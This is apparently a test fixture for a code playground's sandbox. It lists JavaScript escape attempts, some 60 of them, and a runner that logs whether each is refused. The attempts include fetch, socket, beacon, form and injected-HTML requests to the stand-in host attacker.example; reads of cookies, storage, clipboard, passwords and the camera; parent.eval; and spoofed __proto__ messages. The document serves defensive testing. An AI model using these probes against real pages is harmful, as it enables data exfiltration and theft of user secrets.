/** What a hostile program of a link to the playground may try, as expressions of its JavaScript. */

/** One thing to try. */
export interface Attempt {
  readonly what: string;
  /** An expression of an async function; it must fail, or give nothing, for the attempt to be refused. */
  readonly expression: string;
  /** Only pages have what it needs; a worker has not even the name. */
  readonly needsPage?: true;
  /** The reader's switch allows it. */
  readonly isNetwork?: true;
}

/** A host that nothing of the site asks. */
export const OTHER_HOST = 'attacker.example';

/** What the page around keeps to itself. */
export const SECRET = 'the reader’s own';

function event(make: string, good: string, bad: string): string {
  return `new Promise((resolve, reject) => { const it = ${make}; it.${good} = () => resolve('reached'); it.${bad} = () => reject(new Error('refused')); })`;
}

const BLOB = (text: string): string => `URL.createObjectURL(new Blob([${JSON.stringify(text)}]))`;

/** Waits for a word of a document inside of the program's own. */
const inFrame = (attribute: 'src' | 'srcdoc', text: string): string =>
  `new Promise((resolve, reject) => { addEventListener("message", ({ data }) => data === "inside" && resolve(data)); const f = document.createElement("iframe"); f.${attribute} = ${JSON.stringify(text)}; document.body.append(f); setTimeout(() => reject(new Error("silence")), 500); })`;

/** All that is tried. */
export const ATTEMPTS: readonly Attempt[] = [
  // Connections that no policy knows
  { what: 'connections between browsers', expression: 'new RTCPeerConnection().createOffer()' },
  {
    what: 'connections by the name of another engine',
    expression: 'new webkitRTCPeerConnection({}).createOffer()',
  },
  {
    what: 'connections from a frame inside',
    expression:
      'document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection.name',
    needsPage: true,
  },
  // Storage
  { what: 'local storage', expression: 'localStorage.getItem("secret")' },
  { what: 'session storage', expression: 'sessionStorage.getItem("secret")' },
  { what: 'cookies', expression: 'document.cookie', needsPage: true },
  { what: 'the cookie store', expression: 'cookieStore.get("secret")' },
  {
    what: 'databases',
    expression:
      'new Promise((resolve, reject) => { const r = indexedDB.open("x"); r.onsuccess = () => resolve("open"); r.onerror = () => reject(r.error); })',
  },
  { what: 'caches', expression: 'caches.keys().then((keys) => "keys " + keys)' },
  { what: 'files of the origin', expression: 'navigator.storage.getDirectory()' },
  { what: 'service workers', expression: 'navigator.serviceWorker.register("/sw.js")' },
  {
    what: 'broadcasts of the site',
    expression:
      'new Promise((resolve, reject) => { const c = new BroadcastChannel("site"); c.onmessage = resolve; c.postMessage(1); setTimeout(() => reject(new Error("silence")), 300); })',
  },
  // The page around
  { what: 'the document of the page', expression: 'parent.document.title' },
  { what: 'the window at the top', expression: 'top.location.href' },
  { what: 'its own frame', expression: 'frameElement.src', needsPage: true },
  { what: 'storage of the page', expression: 'parent.localStorage.getItem("secret")' },
  { what: 'opener', expression: 'opener.location.href', needsPage: true },
  { what: 'navigation at the top', expression: `{ top.location = "https://${OTHER_HOST}/"; }` },
  {
    what: 'navigation of the parent',
    expression: `{ parent.location.href = "https://${OTHER_HOST}/"; }`,
  },
  { what: 'history of the page', expression: '{ history.pushState({}, "", "/moved"); }' },
  { what: 'windows', expression: 'window.open("/") || Promise.reject(new Error("none"))' },
  { what: 'dialogs', expression: 'confirm("Password?") || Promise.reject(new Error("none"))' },
  {
    what: 'forms',
    expression: `{ const f = document.createElement("form"); f.action = "https://${OTHER_HOST}/"; document.body.append(f); f.submit(); }`,
    needsPage: true,
  },
  {
    what: 'links that leave',
    expression: `{ const a = document.createElement("a"); a.href = "https://${OTHER_HOST}/"; a.target = "_top"; document.body.append(a); a.click(); }`,
    needsPage: true,
  },
  // Code from elsewhere
  { what: 'code from text', expression: 'new Function("return 1")()' },
  {
    what: 'code from a timer’s text',
    expression:
      '{ setTimeout("globalThis.ran = 1", 0); await new Promise((r) => setTimeout(r, 100)); if (globalThis.ran) return "ran"; }',
  },
  { what: 'modules of other hosts', expression: `import("https://${OTHER_HOST}/x.js")` },
  { what: 'modules of the site', expression: 'import("/assets/js/main.js")' },
  { what: 'scripts of other hosts', expression: `importScripts("https://${OTHER_HOST}/x.js")` },
  {
    what: 'a frame of the site',
    expression:
      '{ const f = document.createElement("iframe"); f.src = "/"; document.body.append(f); await new Promise((r) => setTimeout(r, 500)); if (f.contentDocument?.title) return "read"; }',
    needsPage: true,
  },
  // A worker is under the document's policy
  {
    what: 'a network by way of another worker',
    expression: `new Promise((resolve, reject) => { const w = new Worker(${BLOB('fetch("/index.html", {mode: "no-cors"}).then(() => postMessage("reached"), () => postMessage(""))')}); w.onmessage = ({ data }) => data ? resolve(data) : reject(new Error("refused")); w.onerror = reject; })`,
    isNetwork: true,
  },
  {
    what: 'a shared worker',
    expression: `new Promise((resolve, reject) => { const w = new SharedWorker("/assets/js/main.js"); w.onerror = reject; })`,
  },
  {
    what: 'a worker of the site',
    expression: `new Promise((resolve, reject) => { const w = new Worker("/assets/js/main.js"); w.onerror = () => reject(new Error("refused")); w.onmessage = resolve; })`,
  },
  // Ways out
  { what: 'the site, by fetch', expression: 'fetch("/index.html").then((r) => r.text())' },
  {
    what: 'the service of this machine',
    expression: 'fetch("http://127.0.0.1:4000/", {method: "POST", mode: "no-cors"})',
  },
  {
    what: 'other hosts, by fetch',
    expression: `fetch("https://${OTHER_HOST}/", {mode: "no-cors"})`,
    isNetwork: true,
  },
  {
    what: 'sockets',
    expression: event(`new WebSocket("wss://${OTHER_HOST}/")`, 'onopen', 'onerror'),
  },
  {
    what: 'event streams',
    expression: event(`new EventSource("https://${OTHER_HOST}/")`, 'onopen', 'onerror'),
    isNetwork: true,
  },
  {
    what: 'pictures',
    expression: event(
      `Object.assign(new Image(), {src: "https://${OTHER_HOST}/x.png"})`,
      'onload',
      'onerror',
    ),
    needsPage: true,
    isNetwork: true,
  },
  { what: 'fonts', expression: `new FontFace("x", "url(https://${OTHER_HOST}/x.woff2)").load()` },
  {
    what: 'beacons',
    expression: `{ if (!navigator.sendBeacon) throw new Error("none"); navigator.sendBeacon("https://${OTHER_HOST}/"); }`,
    isNetwork: true,
  },
  {
    what: 'styles of other hosts',
    expression: `{ const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://${OTHER_HOST}/x.css"; document.head.append(l); await new Promise((resolve, reject) => { l.onload = resolve; l.onerror = reject; }); return "loaded"; }`,
    needsPage: true,
  },
  {
    what: 'prefetched pages',
    expression: `{ const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://${OTHER_HOST}/x"; document.head.append(l); await new Promise((r) => setTimeout(r, 300)); }`,
    needsPage: true,
    isNetwork: true,
  },
  // A second list, by somebody who had not seen the first
  {
    what: 'what is left of connections between browsers',
    expression: 'Object.getOwnPropertyNames(window).find((name) => /PeerConnection$/i.test(name))',
    needsPage: true,
  },
  {
    what: 'scripts of a document in a frame',
    expression: inFrame('srcdoc', '<script>parent.postMessage("inside", "*")</script>'),
    needsPage: true,
  },
  {
    what: 'scripts of an address in a frame',
    expression: inFrame('src', 'data:text/html,<script>parent.postMessage("inside", "*")</script>'),
    needsPage: true,
  },
  { what: 'modules of an address', expression: 'import("data:text/javascript,export default 1")' },
  { what: 'code by another constructor', expression: '(async () => {}).constructor("return 1")()' },
  { what: 'scripts in a worker', expression: `importScripts("https://${OTHER_HOST}/x.js") ?? 1` },
  {
    what: 'functions of the page',
    expression: 'parent.eval("localStorage.getItem(\'secret\')")',
  },
  {
    what: 'the reader’s place',
    expression:
      'new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))',
  },
  { what: 'the clipboard', expression: 'navigator.clipboard.readText()' },
  {
    what: 'cameras',
    expression: 'navigator.mediaDevices.getUserMedia({ video: true, audio: true })',
  },
  { what: 'passwords', expression: 'navigator.credentials.get({ password: true })' },
  { what: 'locks of the site', expression: 'navigator.locks.query()' },
  { what: 'devices', expression: 'navigator.usb.requestDevice({ filters: [] })' },
  ...[
    ['a background', 'style="background: url(ADDRESS)"'],
    ['a picture in a drawing', '', '<svg><image href="ADDRESS"></image></svg>'],
    ['a part of another drawing', '', '<svg><use href="ADDRESS#x"></use></svg>'],
    ['a poster', '', '<video poster="ADDRESS"></video>'],
    ['a sound', '', '<audio src="ADDRESS" preload="auto"></audio>'],
    ['captions', '', '<video><track default src="ADDRESS"></video>'],
    ['an object', '', '<object data="ADDRESS"></object>'],
    ['an embedded file', '', '<embed src="ADDRESS">'],
    ['a button’s picture', '', '<input type="image" src="ADDRESS">'],
    [
      'a style’s import',
      '',
      '<style>@import "ADDRESS"; @font-face { font-family: x; src: url(ADDRESS) }</style><p style="font-family: x">x</p>',
    ],
    ['a manifest', '', '<link rel="manifest" href="ADDRESS">'],
    ['a file that is loaded ahead', '', '<link rel="preload" as="image" href="ADDRESS">'],
    ['a set of pictures', '', '<img srcset="ADDRESS 2x">'],
  ].map(([what = '', attribute = '', content = '']) => ({
    what: `${what} of another host`,
    expression: `{ const part = document.createElement("div"); part.innerHTML = ${JSON.stringify(
      `<div ${attribute}>${content}</div>`.replaceAll(
        'ADDRESS',
        `https://${OTHER_HOST}/${encodeURIComponent(what)}`,
      ),
    )}; document.body.append(part); await new Promise((r) => setTimeout(r, 100)); }`,
    needsPage: true as const,
    isNetwork: true as const,
  })),
];

/** Messages in the program's name that are not what a frame may say. */
export const SPOOFED: readonly unknown[] = [
  null,
  'run',
  { type: 'unknown' },
  { type: 'console', level: 'fatal', text: 'x' },
  { type: 'console', level: 'log', text: {} },
  { type: 'error', message: 'x', line: 'three' },
  { type: 'height', height: 1e9 },
  { type: 'height', height: '100vh' },
  { type: '__proto__' },
  { type: ['console'], level: 'log', text: 'x' },
  [{ type: 'console', level: 'log', text: 'x' }],
  { type: 'console', level: '__proto__', text: 'x' },
  { type: 'error', message: { toString: 'x' } },
];

/** The JavaScript of a program that tries all of them and writes what came of it. */
export function programOf(attempts: readonly Attempt[]): string {
  const tries = attempts.map(({ what, expression }) => {
    const body = expression.startsWith('{') ? expression : `{ return ${expression}; }`;
    return `[${JSON.stringify(what)}, async () => ${body}]`;
  });
  return `
    const late = () => new Promise((_, reject) => setTimeout(() => reject(new Error("late")), 2000));
    for (const [what, act] of [${tries.join(',\n')}]) {
      let got;
      try { got = await Promise.race([act(), late()]); } catch (error) { got = undefined; }
      console.log(what + ": " + (got === undefined || got === null || got === "" ? "refused" : "reached"));
    }
    for (const message of ${JSON.stringify(SPOOFED)}) globalThis.parent ? parent.postMessage(message, "*") : postMessage(message);
    console.log("done");
  `;
}
